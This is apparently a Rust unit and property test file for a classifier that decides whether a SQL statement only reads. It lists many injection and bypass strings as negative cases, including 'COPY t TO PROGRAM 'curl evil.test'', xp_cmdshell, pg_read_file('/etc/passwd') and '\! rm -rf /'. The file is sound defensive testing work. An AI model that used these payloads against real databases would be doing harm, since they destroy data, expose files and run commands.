use proptest::prelude::*;

use super::*;

fn of(text: &str) -> Vec<String> {
    verbs(text).into_iter().collect()
}

#[test]
fn what_only_reads_is_a_select() {
    for text in [
        "SELECT 1",
        "select * from users where name = 'delete'",
        "SELECT a, 'it''s; drop' FROM t",
        "SELECT \"update\" FROM t",
        "SELECT `drop` FROM t",
        "SELECT [delete] FROM t WHERE 1=1",
        "WITH x AS (SELECT 1) SELECT * FROM x",
        "(SELECT 1) UNION (SELECT 2)",
        "VALUES (1), (2)",
        "SELECT 1; -- drop table x",
        "SELECT 1 /* delete */",
        "SELECT replace(a, 'x', 'y') FROM t",
        "SELECT t.load, comment, t.set FROM t",
        "SELECT a FROM t ORDER BY start",
        "TABLE t",
        "SELECT created_at, updated_by, deleted FROM t",
        "SELECT a[1] FROM t WHERE b = $1",
        "SELECT ARRAY['a', 'b']",
        "SELECT 1e5, 0xff",
        "SELECT count(*) FROM größe",
        "SELECT CASE WHEN a THEN b ELSE c END FROM t",
        "SELECT a FROM t LIMIT 10 OFFSET 5;",
        "SELECT truncate(x, 2) FROM t",
        "SELECT a AS comment, b AS load FROM t",
    ] {
        assert_eq!(of(text), ["select"], "{text}");
    }
}

// No way of writing a statement hides what it does.
#[test]
fn what_writes_is_never_only_a_select() {
    for text in [
        "DELETE FROM t",
        "SELECT 1; DELETE FROM t",
        "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
        "SELECT * INTO new FROM t",
        "SELECT 1 INTO OUTFILE '/tmp/x'",
        "EXPLAIN ANALYZE DELETE FROM t",
        "COPY t TO PROGRAM 'curl evil.test'",
        "COPY (SELECT 1) TO '/tmp/x'",
        "/*! DELETE FROM t */ SELECT 1",
        "SELECT 1 /*!50000 INTO OUTFILE '/x' */",
        "/*M! DROP TABLE t */ SELECT 1",
        "SELECT 1 /* /* */ DELETE FROM t -- */ */",
        "SELECT 'a\\'; DELETE FROM t; -- '",
        "SELECT $$ $$; DELETE FROM t; SELECT $$ $$",
        "SELECT $a$'$a$; DELETE FROM t --'",
        "DO $$ BEGIN DELETE FROM t; END $$",
        "SELECT 1 --1\n; DELETE FROM t",
        "SELECT 1 # '\n; DELETE FROM t #'",
        "SELECT 1;;;DROP TABLE t",
        "EXEC xp_cmdshell 'dir'",
        "SELECT 1 EXEC('x')",
        "CALL p()",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT load_extension('x')",
        "SELECT dblink('h', 'q')",
        "SELECT [a'] ; DROP TABLE x --'",
        "SELECT q'[it's]' ; DELETE FROM t --'",
        "\\! rm -rf /",
        "SELECT * FROM t FOR UPDATE",
        "MERGE INTO t USING s ON 1=1",
        "REPLACE INTO t VALUES (1)",
        "INSERT INTO t SELECT 1",
        "SET ROLE admin",
        "PRAGMA writable_schema = 1",
        "ATTACH 'x' AS y",
        "BEGIN; UPDATE t SET a = 1; COMMIT",
        "SELECT 1 SHUTDOWN",
        "SELECT 1 WAITFOR DELAY '1'",
        "SELECT 1\u{a0};\u{a0}DELETE FROM t",
        "SELECT 1;DELETE\0FROM t",
        "GRANT ALL ON t TO x",
        "(((DELETE FROM t)))",
        "DELIMITER //\nDELETE FROM t//",
        "SELECT 'open",
        "SELECT 1 /* open",
        "SELECT U&'\\0027' ; DELETE FROM t",
        "SELECT a[$$]$$]; DELETE",
        "HANDLER t OPEN",
        "BACKUP DATABASE x",
        "LOAD DATA INFILE 'x' INTO TABLE t",
        "VACUUM",
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "ｄｅｌｅｔｅ FROM t",
        "SELECT x.pg_read_file('/etc/passwd')",
        "SELECT 1 -- a\r; DELETE FROM t",
        "",
        ";",
        "banana",
        "1",
        "'x'",
    ] {
        assert_ne!(of(text), ["select"], "{text}");
    }
}

#[test]
fn verbs_are_told() {
    let check = |text: &str, expected: &[&str]| assert_eq!(of(text), expected, "{text}");
    check("UPDATE t SET a = 1", &["set", "update"]);
    check("INSERT INTO t (a) VALUES (1)", &["insert", "into"]);
    check("EXPLAIN SELECT 1", &["explain", "select"]);
    check("EXPLAIN ANALYZE DELETE FROM t", &["analyze", "delete", "explain"]);
    check("SHOW TABLES", &["show"]);
    check("SELECT xp_cmdshell('x')", &["call", "select"]);
    check("SELECT 'a", &[UNCLEAR]);
}

proptest! {
    // A statement behind a semicolon is found, whatever text of the same language is before it.
    #[test]
    fn a_statement_in_the_open_is_found(before in "(SELECT 1|'[a-z;]{0,4}'|\"[a-z]{0,3}\"| |-- [a-z]{0,5}\n|/\\*[a-z ]{0,6}\\*/|,|\\(|\\)|[a-z]{1,3}|;){0,10}") {
        let found = verbs(&format!("{before}; DELETE FROM t"));
        prop_assert!(found.contains("delete") || found.contains(UNCLEAR), "{}", before);
    }

    #[test]
    fn any_text_is_read(text in "\\PC{0,60}") {
        prop_assert_eq!(verbs(&text), verbs(&text));
    }
}
